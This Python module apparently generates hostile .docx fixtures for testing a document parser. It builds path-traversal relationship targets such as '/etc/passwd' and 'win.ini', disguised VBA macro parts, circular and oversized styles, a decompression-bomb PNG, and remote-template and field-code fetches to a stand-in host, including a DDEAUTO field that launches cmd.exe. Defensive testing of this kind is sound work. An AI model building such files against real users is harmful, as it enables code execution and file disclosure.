"""Hostile parts: relations that lead astray, styles in circles, programs, addresses outside."""

from __future__ import annotations

import struct
import zlib
from functools import partial
from typing import TYPE_CHECKING

from word_hostile import (
    CORE,
    DAMAGED,
    DTD,
    HEAD,
    MACROS,
    MAIN,
    RELS,
    STYLES,
    TEXT,
    TOO_MUCH,
    TOP,
    TYPES,
    UNKNOWN,
    Hostile,
    beside,
    body,
    changed,
    document,
    good,
    override,
    related,
    typed,
)
from word_packed import packed
from word_written import W, p

if TYPE_CHECKING:
    from collections.abc import Iterator

    from word_hostile import Changes

_VBA = "application/vnd.ms-office.vbaProject"
_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOCX = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
_W15 = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
_EXTENDED = "http://schemas.microsoft.com/office/2011/relationships/commentsExtended"


def parts_that_trick() -> Iterator[Hostile]:
    """Yield files whose fault lies in what the parts are to each other."""
    yield from _relations()
    yield from _styles()
    yield from _macros()
    yield from _comments()
    yield from _pictures()
    yield from outside("http://127.0.0.1:9")


def _relations() -> Iterator[Hostile]:
    parts = good()
    folder = {name: content for name, content in parts.items() if name != MAIN}
    yield Hostile("main-missing", lambda: changed({MAIN: None}), DAMAGED)
    yield Hostile("main-a-folder", lambda: packed({**folder, f"{MAIN}/": ""}), DAMAGED)
    yield Hostile("types-missing", lambda: changed({TYPES: None}), UNKNOWN)
    yield Hostile("types-a-folder", lambda: changed({TYPES: None, f"{TYPES}/a": ""}), UNKNOWN)
    yield Hostile("types-say-nothing", lambda: changed({TYPES: "<Types/>"}), UNKNOWN)
    yield Hostile(
        "types-say-png",
        lambda: changed({TYPES: parts[TYPES].replace(_DOCX, b"image/png")}),
        UNKNOWN,
    )
    yield Hostile("no-top-relations", lambda: changed({TOP: None}))
    yield Hostile("no-relations", lambda: changed({RELS: None}))
    elsewhere = {
        "main-above": b'"../../../../etc/passwd"',
        "main-itself": b'"_rels/.rels"',
        "main-at-types": b'"[Content_Types].xml"',
        "main-at-styles": b'"word/styles.xml"',
        "main-nowhere": b'""',
        "main-a-dot": b'"."',
    }
    for name, target in elsewhere.items():
        content = parts[TOP].replace(b'"word/document.xml"', target)
        yield Hostile(name, partial(changed, {TOP: content}), "Word-fil")
    for name, target in {
        "another-place": b'"http://127.0.0.1:9/a" TargetMode="External"',
        "capitals": b'"/WORD/Document.XML"',
        "steps": b'"a/../word/./document.xml"',
    }.items():
        content = parts[TOP].replace(b'"word/document.xml"', target)
        yield Hostile(f"main-in-{name}", partial(changed, {TOP: content}))
    strange = [
        ("styles", "../../../../../etc/passwd", False),
        ("numbering", "file:///etc/passwd", False),
        ("footnotes", "document.xml.rels", False),
        ("header", "/", False),
        ("footer", "", False),
        ("image", "C:\\Windows\\win.ini", False),
        ("x" * 60_000, "y" * 60_000, False),
    ]
    yield Hostile("targets-that-lead-astray", lambda: changed(related(*strange)))
    many = [("image", f"media/{n}.png", False) for n in range(30_000)]
    yield Hostile("relations-30000", lambda: changed(related(*many)))
    yield Hostile("relations-300000", lambda: changed(related(*many * 10)), TOO_MUCH)
    nested = "<Relationships><Relationships><Relationship/></Relationships></Relationships>"
    yield Hostile("relations-odd", lambda: changed({"word/_rels/header9.xml.rels": nested}))
    yield Hostile(
        "relations-cut", lambda: changed({"word/_rels/header9.xml.rels": nested[:-9]}), DAMAGED
    )
    note = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    note = f'<w:footnotes {W}><w:footnote w:id="1">{note}</w:footnote></w:footnotes>'
    called = (
        "<w:p><w:r><w:t>Se not.</w:t>" + '<w:footnoteReference w:id="1"/>' * 5_000 + "</w:r></w:p>"
    )
    notes = {**beside("footnotes", note), MAIN: document(called)}
    yield Hostile("note-that-calls-itself", lambda: changed(notes))


def _styles() -> Iterator[Hostile]:
    def style(name: str, based: str, more: str = "") -> str:
        head = f'<w:style w:type="paragraph" w:styleId="{name}"><w:basedOn w:val="{based}"/>'
        return f"{head}{more}</w:style>"

    def styled(styles: str, *used: str) -> bytes:
        start = good()[STYLES].decode().replace("</w:styles>", f"{styles}</w:styles>")
        content = document("".join(p(TEXT, style=name) for name in used))
        return changed({STYLES: start, MAIN: content})

    chain = "".join(style(f"s{n}", f"s{n + 1}") for n in range(30_000))
    many = "".join(style(f"s{n}", "s0", f'<w:name w:val="N{n}"/>') for n in range(30_000))
    yield Hostile("style-on-itself", lambda: styled(style("a", "a"), "a"))
    yield Hostile("styles-in-a-circle", lambda: styled(style("a", "b") + style("b", "a"), "a", "b"))
    yield Hostile("styles-30000-in-a-chain", lambda: styled(chain, *(f"s{n}" for n in range(200))))
    yield Hostile("styles-30000", lambda: styled(many, *(f"s{n}" for n in range(2000))))
    yield Hostile("style-named-thrice", lambda: styled(style("a", "R1") * 3, "a"))
    yield Hostile("style-unknown", lambda: styled("", "finns inte", "x" * 50_000))
    circle = (
        '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    listed = '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'
    circular = style("a", "a", listed) + "</w:styles>"
    lists = {**beside("numbering", f"<w:numbering {W}>{circle}</w:numbering>"),
             STYLES: good()[STYLES].decode().replace("</w:styles>", circular),
             MAIN: document(p(TEXT, style="a") + p(TEXT, properties=listed[7:-8]))}  # fmt: skip
    yield Hostile("lists-in-a-circle", lambda: changed(lists))
    silent = (
        '<w:abstractNum w:abstractNumId="1"><w:lvl><w:numFmt w:val="none"/></w:lvl></w:abstractNum>'
    )
    silent += "".join(
        f'<w:num w:numId="{n}"><w:abstractNumId w:val="1"/></w:num>' for n in range(20_000)
    )
    numbers = {**beside("numbering", f"<w:numbering {W}>{silent}</w:numbering>"),
               MAIN: document(p("Mål", properties=listed[7:-8]) * 4_000)}  # fmt: skip
    yield Hostile("lists-20000", lambda: changed(numbers))


def _macros() -> Iterator[Hostile]:
    types = good()[TYPES]
    docm = types.replace(_DOCX, _DOCM.encode())
    dotm = types.replace(_DOCX, b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    hidden = types.replace(_DOCX, _DOCM.replace("macro", "m&#97;cro").encode())
    loud = types.replace(_DOCX, _DOCM.upper().encode())
    project = ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat", False)
    tricks: dict[str, Changes] = {
        "docm": {TYPES: docm},
        "dotm": {TYPES: dotm},
        "docm-in-references": {TYPES: hidden},
        "docm-in-capitals": {TYPES: loud},
        "vba": {"word/vbaProject.bin": "x"},
        "vba-in-capitals": {"word/VBAPROJECT.BIN": "x"},
        "vba-elsewhere": {"custom/a-vbaProject.bin": "x"},
        "vba-by-type": {"word/a.dat": "x", **typed(override("word/a.dat", _VBA))},
        "vba-by-ending": {**typed(f'<Default Extension="dat" ContentType="{_VBA}"/>')},
        "vba-by-relation": {"word/a.dat": "x", **related(project)},
        "vba-at-the-top": {"a.dat": "x", **related(project, to=TOP)},
        "vba-data": {**typed(override("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"))},
    }
    for name, changes in tricks.items():
        told = "" if name == "vba-data" else MACROS
        yield Hostile(name, partial(changed, changes), told)
    wide = good()[TYPES].decode().replace(_DOCX.decode(), _DOCM).encode("utf-16")
    yield Hostile("docm-in-utf16", lambda: changed({TYPES: wide}), "UTF-16")


def _comments() -> Iterator[Hostile]:
    def told(*comments: str, more: str = "") -> bytes:
        return changed(
            beside(
                "comments", f"{HEAD}<w:comments {W} {_W14}>{''.join(comments)}{more}</w:comments>"
            )
        )

    def one(number: str, text: str = "Hej", author: str = "A", key: str = "") -> str:
        marked = p(text).replace("<w:p>", f'<w:p w14:paraId="{key}">') if key else p(text)
        return f'<w:comment w:id="{number}" w:author="{author}">{marked}</w:comment>'

    ours = "".join(one(str(n), f"Hinder FOR{n % 90:02}", "grantflow") for n in range(8_000))
    for name, content in {
        "ids-twice": one("0") + one("0") + one("00"),
        "ids-negative": one("-1") + one("-99999999"),
        "ids-no-numbers": one("x") + one("") + one("²") + one("1.5") + one("0x1"),
        "ids-huge": one("999999999") + one("2147483647") + one("9" * 5000),
        "id-missing": "<w:comment/>",
        "without-text": '<w:comment w:id="3" w:author="grantflow"/>',
        "in-comments": f'<w:comment w:id="4">{one("5")}</w:comment>',
        "not-comments": "<w:p/><x/>text",
        "8000-ours": ours,
    }.items():
        yield Hostile(f"comments-{name}", partial(told, content))
    yield Hostile("comments-one-tag", lambda: changed(beside("comments", f"<w:comments {W}/>")))
    yield Hostile(
        "comments-with-mark", lambda: changed(beside("comments", f"\ufeff{HEAD}<w:comments {W}/>"))
    )
    yield Hostile("comments-nowhere", lambda: changed(related(("comments", "comments.xml", False))))
    reply = '<w15:commentEx w15:paraId="1" w15:paraIdParent="1"/>'
    replies = f"<w15:commentsEx {_W15}>{reply}</w15:commentsEx>"
    for name, content in {"in-a-circle": replies, "empty": "", "other": "<a/>"}.items():
        parts: Changes = {
            **beside("comments", f"<w:comments {W} {_W14}>{one('1', key='1')}</w:comments>"),
            "word/more.xml": content,
            **related(("comments", "comments.xml", False), (_EXTENDED, "more.xml", False)),
        }
        damaged = "" if name == "in-a-circle" else DAMAGED
        yield Hostile(f"replies-{name}", partial(changed, parts), "", damaged)
    for name, content in {"blank": "x" * 9_000, "cut": "<", "laughs": "<!DOCTYPE a>"}.items():
        core: Changes = {
            CORE: content,
            **related((f"{_EXTENDED}/core-properties", CORE, False), to=TOP),
        }
        fault = DTD if name == "laughs" else DAMAGED
        yield Hostile(f"core-{name}", partial(changed, core), "", fault)


def _pictures() -> Iterator[Hostile]:
    size = struct.pack(">4s2I5B", b"IHDR", 100_000, 100_000, 8, 6, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n\0\0\0\r" + size + struct.pack(">I", zlib.crc32(size))
    picture: Changes = {"word/media/a.png": png, **related(("image", "media/a.png", False))}
    yield Hostile("picture-of-10-gigapixels", lambda: changed(picture))
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:9/a"/></svg>'
    yield Hostile("picture-that-fetches", lambda: changed({"word/media/a.svg": svg}))
    page = '<html><img src="http://127.0.0.1:9/a.png"><script>x</script></html>'
    chunk: Changes = {"word/a.html": page, **related(("aFChunk", "a.html", False))}
    yield Hostile("text-from-a-page", lambda: changed(chunk))


def outside(host: str) -> Iterator[Hostile]:
    """Yield files that ask Word to fetch something from a host when it opens them."""
    for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "aFChunk", "frame",
                 "hyperlink", "mailMergeSource", "externalLinkPath", "video"):  # fmt: skip
        address = f"{host}/{kind}"
        yield Hostile(f"outside-{kind}", partial(changed, related((kind, address, True))))
    beyond = related(("attachedTemplate", f"{host}/mall.dotm", True))[RELS]
    for part in ("settings", "header1", "footnotes", "webSettings"):
        settings = {f"word/_rels/{part}.xml.rels": beyond}
        yield Hostile(f"outside-from-{part}", partial(changed, settings))
    for number, code in enumerate(codes(host)):
        simple = (
            f"<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>Bild</w:t></w:r></w:fldSimple></w:p>"
        )
        half = len(code) // 2
        marks = [
            f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
            for kind in ("begin", "separate", "end")
        ]
        told = "".join(
            f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in (code[:half], code[half:])
        )
        split = f"<w:p>{marks[0]}{told}{marks[1]}<w:r><w:t>Bild</w:t></w:r>{marks[2]}</w:p>"
        yield Hostile(f"outside-field-{number}", partial(body, simple))
        yield Hostile(f"outside-field-{number}-in-runs", partial(body, split))
    drawn = f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{host}/a"/>'
    held = f"<w:p><w:r><w:pict>{drawn}</v:shape></w:pict></w:r></w:p>"
    yield Hostile("outside-old-drawing", lambda: body(held))


def codes(host: str) -> tuple[str, ...]:
    """Return codes of fields that fetch, or start a program."""
    return (
        f'INCLUDEPICTURE "{host}/a.png" \\d',
        f"INCLUDETEXT {host}/a.docx",
        f'IMPORT "{host}/a.png"',
        f'LINK Excel.Sheet.8 "{host}/a.xlsx" "Blad1" \\a \\f 0 \\p',
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        'DDE "Excel" "a.xlsx"',
        f"RD {host}/a.docx",
        f'DATABASE \\d "{host}/a.mdb"',
        "INCLUDEPICTURE \\\\\\\\server\\\\share\\\\a.png",
    )
